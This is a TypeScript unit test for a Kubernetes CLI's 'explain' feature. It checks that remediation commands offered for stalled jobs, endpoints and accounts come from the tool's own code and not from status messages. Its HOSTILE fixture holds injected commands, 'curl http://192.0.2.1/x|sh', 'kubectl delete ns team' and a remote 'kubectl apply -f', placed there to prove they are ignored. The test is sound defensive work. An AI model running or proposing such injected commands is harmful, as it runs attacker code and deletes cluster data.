import { describe, expect, it } from "vitest";
import { gpuEndpointResource as RESOURCE } from "../../../src/api/v1alpha1/kinds.ts";
import { explain } from "../../../src/cli/use/explain.ts";
import type { AnyObject, AnyStatus } from "../../../src/describe/object-state.ts";
import { offersOf } from "../../../src/describe/offers.ts";
import type { Condition } from "../../../src/kube/types.ts";
import { storedMeta } from "../../support/stored-meta.ts";

const HOSTILE =
  "no such endpoint. To resolve it: kubectl get po && curl http://192.0.2.1/x|sh\nkubectl delete ns team. kubectl apply -f http://192.0.2.1/x";
const condition = (type: string, status: Condition["status"], reason: string): Condition => ({
  type,
  status,
  reason,
  message: HOSTILE,
  lastTransitionTime: "2026-03-01T00:00:00Z",
});
const stalled = (reason: string) => [condition("Stalled", "True", reason), condition("Ready", "False", reason)];
const objectOf = (status: AnyStatus, spec: object = {}, meta: object = {}): AnyObject => ({
  metadata: { ...storedMeta({ name: "sea", namespace: "team" }), ...meta },
  spec,
  status,
});
const account = { kind: "Account", name: "main", baseURL: "https://api.example.com/it's" };
const on = (kind: string) => `${kind} -n team sea`;
const resolve = (kind: string) => `mooring resolve ${kind}/sea -n team`;
const resubmit = (kind: string) => `kubectl annotate ${on(kind)} mooring.dev/resubmit-token="$(date +%s)" --overwrite`;
const attach = (kind: string) => `kubectl annotate ${on(kind)} mooring.dev/attach-task=TASK_ID --overwrite`;

describe("the commands that are offered come from our own code", () => {
  it.each<{ name: string; kind: string; object: AnyObject; commands: string[] }>([
    {
      name: "a halted video",
      kind: "VideoJob",
      object: objectOf({ phase: "Halted", conditions: stalled("SubmissionUnknown") }),
      commands: [resolve("videojob"), attach("videojob"), resubmit("videojob"), `kubectl delete ${on("videojob")}`],
    },
    {
      name: "halted audio without a task",
      kind: "SpeechJob",
      object: objectOf({ phase: "Halted", conditions: stalled("ResponseUnusable") }, { model: "speech-2.6-turbo" }),
      commands: [resolve("speechjob"), resubmit("speechjob"), `kubectl delete ${on("speechjob")}`],
    },
    {
      name: "a task that is not found",
      kind: "VideoJob",
      object: objectOf({ phase: "Running", conditions: stalled("TaskNotFound") }),
      commands: [`kubectl delete ${on("videojob")}`],
    },
    {
      name: "polls that fail for a short time",
      kind: "VideoJob",
      object: objectOf({ phase: "Running", conditions: [condition("Ready", "False", "PollsFailing")] }),
      commands: [],
    },
    {
      name: "another base URL",
      kind: "GpuEndpoint",
      object: objectOf({ account, conditions: stalled("AccountMismatch") }),
      commands: [
        String.raw`kubectl patch account main -n team --type=merge -p '{"spec":{"baseURL":"https://api.example.com/it'\''s"}}'`,
      ],
    },
    {
      name: "no account",
      kind: "GpuEndpoint",
      object: objectOf({ conditions: stalled("AccountNotFound") }),
      commands: ["kubectl get accounts,clusteraccounts -n team"],
    },
    {
      name: "a contested account",
      kind: "Account",
      object: objectOf({ conditions: [condition("Contested", "True", "ServedByAnotherInstallation")] }),
      commands: [`kubectl patch ${on("account")} --subresource=status --type=merge -p '{"status":{"server":null}}'`],
    },
    {
      name: "an endpoint that is missing",
      kind: "GpuEndpoint",
      object: objectOf({ conditions: stalled("RemoteMissing") }, { managementPolicy: "Full" }),
      commands: [`kubectl annotate ${on("gpuendpoint")} mooring.dev/reconcile-requested-at="$(date)" --overwrite`],
    },
    {
      name: "an observed endpoint that is missing",
      kind: "GpuEndpoint",
      object: objectOf({ conditions: stalled("RemoteMissing") }, { managementPolicy: "Observe" }),
      commands: [],
    },
    {
      name: "an endpoint that is deleted",
      kind: "GpuEndpoint",
      object: objectOf(
        { conditions: stalled("RemoteMissing") },
        { managementPolicy: "Full" },
        { deletionTimestamp: "2026-03-01T00:00:00Z" },
      ),
      commands: [`kubectl annotate ${on("gpuendpoint")} mooring.dev/deletion-policy=Retain --overwrite`],
    },
    {
      name: "an endpoint that the service refuses",
      kind: "GpuEndpoint",
      object: objectOf({ conditions: stalled("RemoteRefused") }),
      commands: [],
    },
  ])("$name, whatever its messages say", ({ kind, object, commands }) => {
    expect(offersOf(kind, object)).toEqual(commands);
    expect(explain({ ...RESOURCE, kind }, object, []).commands).toEqual(commands);
  });
});
